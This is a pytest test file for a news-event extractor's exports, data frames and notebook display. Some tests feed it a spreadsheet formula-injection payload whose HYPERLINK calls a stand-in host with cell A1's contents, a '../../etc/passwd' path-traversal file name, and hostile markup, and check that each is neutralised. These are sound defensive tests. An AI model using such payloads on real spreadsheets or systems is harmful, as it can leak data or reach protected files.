"""Exports, frames and notebooks of a run with a schema of one's own."""

import contextlib
import csv
import io
import sqlite3
import sys
from datetime import date
from typing import Literal

import pytest
from pydantic import BaseModel
from typer.testing import CliRunner

from extractor.batch import read_outcomes
from extractor.cli import app
from extractor.errors import ConfigurationError
from extractor.export import FORMATS, export
from extractor.models import Article, Outcome, Problem
from extractor.models.record_rows import RecordTables
from extractor.tables import fill_tables
from tests.fault_server import completion
from tests.schemas import ARTICLE, BAN, FREEZE, TEXT, Q, done, schema_extraction, store
from tests.test_evaluation_page import HOSTILE, Page

FORMULA = '=HYPERLINK("http://x.test/?"&A1;"click")'
SANCTIONS = schema_extraction({"summary": "Norway acts.", "sanctions": [FREEZE, BAN]})
OTHER = schema_extraction({"summary": None, "sanctions": []}, article=Article(id="b", text="Nothing."))
RUN = [done(SANCTIONS), done(OTHER, "in/b.txt")]
COPY = Outcome(article_id="c", path="in/c.txt", key="", kind="duplicate", reason="in/a.txt")


def read_csv(path):
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode(), newline="")))


def call(*arguments):
    return CliRunner(env={"COLUMNS": "140"}).invoke(app, [str(one) for one in arguments])


# CSV and Parquet


def test_csv_has_a_file_a_kind_with_the_fields_the_article_and_the_place_of_the_first_quote(tmp_path):
    written = export([COPY, *RUN], "csv", tmp_path)
    assert written.paths == (tmp_path / "sanctions.csv", tmp_path / "reply.csv")
    freeze, ban = read_csv(tmp_path / "sanctions.csv")
    assert freeze == {
        "id": "in/a.txt#sanctions1",
        "article": "in/a.txt",
        "imposed_by": "Norway",
        "measure": "asset_freeze",
        "targets": '[{"name":"Acme Ltd.","kind":"firm"},{"name":"Beta Ltd.","kind":"firm"}]',
        "since": "",
        "law_name": "Act 12",
        "law_year": "1998",
        "law_articles": "§ 1; § 2",
        "is_new": "true",
        "tags": "assets; firms",
        "evidence": FREEZE["evidence"][0],
        "article_id": "a",
        "article_title": "Norway acts",
        "article_published": "2024-03-05",
        "article_source": "The Post",
        "article_url": "https://example.org/a",
        "quote_start": "0",
        "quote_end": "6",
    }
    assert (ban["since"], ban["law_name"], ban["is_new"], ban["tags"]) == ("2024-03-04", "", "false", "")
    assert [(one["id"], one["summary"], one["quote_start"]) for one in read_csv(tmp_path / "reply.csv")] == [
        ("in/a.txt#reply", "Norway acts.", ""),
        ("in/b.txt#reply", "", ""),
    ]


def test_parquet_and_polars_give_the_rows_back_with_their_types(tmp_path):
    parquet, polars = pytest.importorskip("pyarrow.parquet"), pytest.importorskip("polars")
    export(RUN, "parquet", tmp_path)
    rows = [row for kind, row in RecordTables([SANCTIONS]).rows(SANCTIONS, "in/a.txt") if kind == "sanctions"]
    assert parquet.read_table(tmp_path / "sanctions.parquet").to_pylist() == rows
    frame = polars.read_parquet(tmp_path / "sanctions.parquet")
    assert frame.to_dicts() == rows
    types = {name: str(kind) for name, kind in frame.schema.items()}
    assert (types["is_new"], types["law_year"], types["tags"]) == ("Boolean", "Int64", "List(String)")


@pytest.mark.parametrize(
    ("values", "kind", "cells"),
    [
        ([1, 2.5], "real", [1.0, 2.5]),
        ([None, None], "text", [None, None]),
        ([True, None], "boolean", [True, None]),
        ([1, "two"], "text", ["1", "two"]),
        ([True, 1], "text", ["true", "1"]),
        ([10**30, 1], "text", [str(10**30), "1"]),
        ([[], None], "list", [[], None]),
        ([[1, "a", None, True], []], "list", [["1", "a", "null", "true"], []]),
        ([["a"], [{"b": 1}]], "text", ['["a"]', '[{"b":1}]']),
        ([["a"], "a"], "text", ['["a"]', "a"]),
    ],
)
def test_a_column_has_the_type_of_all_its_values(tmp_path, values, kind, cells):
    parquet = pytest.importorskip("pyarrow.parquet")
    found = schema_extraction({"acts": [{"field": value} for value in values]})
    assert RecordTables([found]).columns["acts"]["field"] == kind
    export([done(found)], "parquet", tmp_path)
    assert parquet.read_table(tmp_path / "acts.parquet")["field"].to_pylist() == cells


def test_the_columns_of_all_exports_are_those_of_the_view(tmp_path):
    found = schema_extraction({"acts": [{"id": 1, "law": {"name": "a"}, "Law_Name": "b", "article_url": "c"}]})
    path = store(tmp_path, done(found))
    fill_tables(path)
    export(read_outcomes(tmp_path), "csv", tmp_path / "tables")
    (row,) = read_csv(tmp_path / "tables" / "acts.csv")
    assert list(row)[:-7] == ["id", "article", "id_2", "law_name", "Law_Name_2", "article_url_2"]
    with contextlib.closing(sqlite3.connect(path)) as connection:
        cursor = connection.execute("SELECT * FROM acts")
        assert [column for column, *_ in cursor.description] == list(row)[:-7]
        assert [tuple(map(str, values)) for values in cursor] == [tuple(row.values())[:-7]]


def test_what_an_article_and_a_model_say_is_no_formula(tmp_path):
    article = ARTICLE.model_copy(update={"id": "=1", "title": FORMULA, "text": f"{FORMULA} {TEXT}"})
    contents = {FORMULA: "@SUM(1)", "quote": Q(FORMULA), "n": -5, "real": -0.5, "list": ["a", "=b"], "nul": "a\0\x1b"}
    export([done(schema_extraction({"acts": [contents]}, article=article))], "csv", tmp_path)
    cells = [
        cell
        for row in csv.reader(io.StringIO((tmp_path / "acts.csv").read_bytes().decode(), newline=""))
        for cell in row
    ]
    assert [cell for cell in cells if cell[:1] in tuple("=+-@")] == ["-5", "-0.5"]
    assert cells.count(f"'{FORMULA}") == 3
    assert "a; '=b" in cells
    assert "a\ufffd\x1b" in cells


@pytest.mark.parametrize(
    ("kinds", "files"),
    [
        (["meetings"], ["meetings.csv"]),
        (["claims", "Claims"], ["claims.csv", "Claims_2.csv"]),
        (["../../etc/passwd", "a b", "x" * 300], ["_etc_passwd.csv", "a_b.csv", f"{'x' * 60}.csv"]),
        (["größe", ""], ["größe.csv", "_.csv"]),
    ],
)
def test_a_file_has_the_name_of_its_kind_made_safe(tmp_path, kinds, files):
    found = schema_extraction({kind: [{"a": 1}] for kind in kinds})
    export([done(found)], "csv", tmp_path / "out")
    assert sorted(path.name for path in tmp_path.rglob("*.csv")) == sorted(files)
    assert all(path.parent == tmp_path / "out" for path in tmp_path.rglob("*.csv"))


# What is of meetings


@pytest.mark.parametrize("form", sorted({*FORMATS} - {"jsonl", "csv", "parquet"}))
def test_formats_of_meetings_say_what_the_run_has_instead(tmp_path, form):
    store(tmp_path, *RUN)
    refused = call("export", tmp_path, "--format", form, "--out", tmp_path / "x")
    told = " ".join(refused.stderr.split())
    assert refused.exit_code == 2
    assert f"This run has records of Sanctions, not meetings, which {form} is made of" in told
    assert "export it as jsonl, csv or parquet" in told
    assert not (tmp_path / "x").exists()


def test_link_says_what_the_run_has_instead(tmp_path):
    store(tmp_path, *RUN)
    refused = call("link", tmp_path)
    assert refused.exit_code == 2
    assert "has records of Sanctions, not meetings" in " ".join(refused.stderr.split())


def test_the_command_writes_tables_and_json_lines_that_are_read_back(tmp_path):
    store(tmp_path, *RUN)
    tables = call("export", tmp_path, "--format", "csv", "--out", tmp_path / "tables")
    assert tables.stdout.split() == [str(tmp_path / "tables" / name) for name in ("sanctions.csv", "reply.csv")]
    call("export", tmp_path, "--out", tmp_path / "run.jsonl")
    assert list(read_outcomes(tmp_path / "run.jsonl")) == list(read_outcomes(tmp_path))
    again = call("export", tmp_path / "run.jsonl", "--format", "csv", "--out", tmp_path / "again")
    assert again.exit_code == 0
    for name in ("sanctions.csv", "reply.csv"):
        assert (tmp_path / "again" / name).read_bytes() == (tmp_path / "tables" / name).read_bytes()


def test_a_run_without_a_record_says_so(tmp_path):
    store(tmp_path, done(schema_extraction(None)))
    written = call("export", tmp_path, "--format", "csv", "--out", tmp_path / "tables")
    assert (written.exit_code, written.stdout) == (0, "")
    assert "There is no record to write" in written.stderr


@pytest.mark.parametrize("form", ["jsonl", "csv", "parquet"])
def test_outcomes_that_can_be_gone_through_only_once_are_exported_whole(tmp_path, form):
    export(iter(RUN), form, tmp_path / "once")
    export(RUN, form, tmp_path / "often")
    for one in [tmp_path / "once", *(tmp_path / "once").rglob("*")]:
        if one.is_file():
            assert one.read_bytes() == (tmp_path / "often" / one.relative_to(tmp_path / "once")).read_bytes()


# Frames and notebooks


def test_frames_have_a_table_a_kind_with_the_id_of_the_article():
    pytest.importorskip("pandas")
    pytest.importorskip("polars")
    ours, theirs = SANCTIONS.to_pandas(), SANCTIONS.to_polars()
    assert list(ours) == list(theirs) == ["sanctions", "reply"]
    assert list(ours["sanctions"].columns) == theirs["sanctions"].columns
    assert ours["sanctions"]["id"].tolist() == theirs["sanctions"]["id"].to_list() == ["a#sanctions1", "a#sanctions2"]
    assert theirs["sanctions"]["quote_end"].to_list() == [6, 6]
    assert schema_extraction(None).to_pandas() == schema_extraction(None).to_polars() == {}


@pytest.mark.parametrize("library", ["pandas", "polars"])
def test_a_missing_frame_library_is_one_sentence(monkeypatch, library):
    monkeypatch.setitem(sys.modules, library, None)
    with pytest.raises(ConfigurationError, match=rf"news-event-extractor\[{library}\]"):
        getattr(SANCTIONS, f"to_{library}")()


def test_a_notebook_shows_the_records_their_quotes_and_where_these_stand():
    page = Page(SANCTIONS._repr_html_())
    assert page.inside("th") == [
        *("record", "measure", "targets", "law", "is_new", "tags", "since", "in the article's words"),
        *("record", "summary", "in the article's words"),
    ]
    assert "name: Act 12, year: 1998, articles: § 1; § 2" in page.inside("td")
    assert any("targets[1].name: “Beta Ltd.” (41–50); evidence[0]: “Norway froze" in cell for cell in page.inside("td"))
    assert "No record." in Page(schema_extraction(None)._repr_html_()).text


def test_a_notebook_shows_hostile_words_as_words():
    article = Article(id="a", text=f"{HOSTILE} {TEXT}", title=HOSTILE)
    problem = Problem(
        code="no_evidence",
        kind=HOSTILE,
        record=HOSTILE,
        field=HOSTILE,
        value=HOSTILE,
        message=f"$x$ {HOSTILE}",
        consequence="left_out",
    )
    content = {HOSTILE: HOSTILE, "quote": Q(HOSTILE), "inner": {HOSTILE: [HOSTILE]}, "money": "$1 $2"}
    shown = schema_extraction({HOSTILE: [content]}, article=article, problems=(problem,))._repr_html_()
    page = Page(shown)
    assert {tag for tag, _ in page.elements} == {
        "div",
        "p",
        "b",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "ul",
        "li",
    }
    assert not any(attributes for _, attributes in page.elements)
    assert page.open == []
    assert page.text.count(HOSTILE) == 8
    assert "$" not in shown


# From the model's own class to every form


SCHEMA = """
import datetime
import enum
import pydantic
from extractor import Quote

class Measure(enum.Enum):
    FREEZE = "asset_freeze"
    BAN = "travel_ban"

class Target(pydantic.BaseModel):
    name: Quote
    share: float | None = None

class Sanction(pydantic.BaseModel):
    select: Quote
    measure: Measure
    since: datetime.date | None
    target: Target
    evidence: list[Quote]

class Sanctions(pydantic.BaseModel):
    claims: list[Sanction]
"""
ANSWER = {
    "claims": [
        {
            "select": "Norway",
            "measure": "travel_ban",
            "since": "2024-03-04",
            "target": {"name": "Ola Nordmann", "share": 0.5},
            "evidence": ["banned travel by Ola Nordmann"],
        }
    ]
}


def test_a_run_of_ones_own_schema_is_asked_shown_exported_and_framed_alike(fault_server, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "sanctions.py").write_text(SCHEMA)
    (tmp_path / "a.txt").write_text(TEXT)
    server = fault_server(completion(ANSWER))
    options = ("--schema", "sanctions.py:Sanctions", "--model", "openai/m", "--base-url", server.url)
    assert call("run", "a.txt", *options).exit_code == 0
    (outcome,) = read_outcomes(tmp_path / "out")
    expected = {
        "id": f"{outcome.path}#claims1",
        "article": outcome.path,
        "select": "Norway",
        "measure": "travel_ban",
        "since": "2024-03-04",
        "target_name": "Ola Nordmann",
        "target_share": 0.5,
        "evidence": '["banned travel by Ola Nordmann"]',
    }
    with contextlib.closing(sqlite3.connect(tmp_path / "out" / "events.db")) as connection:
        connection.row_factory = sqlite3.Row
        (row,) = connection.execute("""SELECT * FROM claims_records WHERE "select" = 'Norway'""")
    assert dict(row) == expected
    shown = " ".join(call("show", "a").stdout.split())
    assert "by Ola Nordmann[claims1], who" in shown
    assert "target name: Ola Nordmann, share: 0.5 select “Norway” 0–6 target.name “Ola Nordmann” 87–99" in shown
    call("export", "--format", "csv", "--out", "tables")
    (exported,) = read_csv(tmp_path / "tables" / "claims.csv")
    assert list(exported)[:8] == list(expected)
    (framed,) = outcome.extraction.to_polars()["claims"].to_dicts()
    assert (framed["measure"], framed["target_share"]) == ("travel_ban", 0.5)


def test_data_of_the_models_class_and_data_that_was_read_back_make_the_same_frames():
    class Target(BaseModel):
        name: str
        kind: Literal["firm"] = "firm"

    class Act(BaseModel):
        since: date
        targets: list[Target]
        law: Target | None = None

    class Acts(BaseModel):
        acts: list[Act]

    acts = [Act(since=date(2024, 3, 4), targets=[Target(name="a")]), Act(since=date(2024, 3, 5), targets=[])]
    data = Acts(acts=acts)
    read_back = schema_extraction(data.model_dump(mode="json"))
    live = read_back.load(Acts)
    assert isinstance(live.data, Acts)
    assert live.to_polars()["acts"].equals(read_back.to_polars()["acts"])
    assert live._repr_html_() == read_back._repr_html_()
